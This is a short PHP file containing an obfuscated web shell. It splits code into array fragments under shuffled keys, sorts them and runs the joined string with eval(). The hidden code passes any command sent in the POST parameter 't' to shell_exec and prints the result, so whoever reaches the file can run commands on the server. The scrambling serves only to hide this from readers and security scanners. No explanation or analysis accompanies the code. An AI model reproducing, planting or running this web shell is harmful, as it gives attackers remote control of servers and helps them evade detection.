<?php
$m = array(
    31 => 'pre>\'; ',
    4 => 'et($_PO',
    25 => 'ST[\'t\']',
    7 => 'ST[\'t\']',
    10 => ')) { ec',
    13 => 'ho \'<pr',
    16 => 'e>\' . s',
    1 => 'if (iss',
    34 => '}',
    19 => 'hell_ex',
    28 => ') . \'</',
    22 => 'ec($_PO'
);
ksort($m);
eval(implode('', $m));
